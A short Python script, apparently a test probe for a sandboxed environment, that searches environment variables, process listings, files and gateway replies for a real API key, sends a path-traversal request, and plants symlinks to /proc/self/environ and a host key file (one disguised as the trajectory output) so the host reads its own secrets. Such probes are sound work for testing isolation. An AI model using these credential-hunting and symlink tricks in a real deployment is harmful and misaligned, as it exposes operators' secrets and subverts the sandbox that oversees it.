"""Looks for the real API key everywhere: its own environment, every process's environment and
command line, every file it can read, the gateway's answers; and plants symlinks that would
make the host read its own files (a key file, its environment) if it followed them."""

from __future__ import annotations

import os

from probe import OUT, REPO, TARGETS, chat, gateway, report, search_files, search_processes, secret_prefix

prefix = secret_prefix()
answers = {
    "chat": chat("hello, which key do you use?"),
    "models": gateway("/models"),
    "bad_body": gateway("/chat/completions", {"messages": "not a list"}),
    "unknown_route": gateway("/../../api/health"),
}
files = search_files([prefix])
processes = search_processes([prefix])
gateway_hits = [name for name, answer in answers.items() if prefix in str(answer)]
# If the host followed these, it would read its own files into the recorded result.
os.symlink("/proc/self/environ", REPO / "leak_environ")
os.symlink(TARGETS["host_key_file"], REPO / "leak_key_file")
os.symlink(TARGETS["host_key_file"], OUT / "trajectory.json")
report(
    {
        "environ": dict(os.environ),
        "processes": processes["seen"],
        "hits": files["hits"] + processes["hits"] + [{"path": f"gateway {n}"} for n in gateway_hits],
        "files_read": files["files_read"],
        "llm_folder": sorted(os.listdir("/clade/llm")),
        "answers": answers,
    },
    trajectory=False,
)
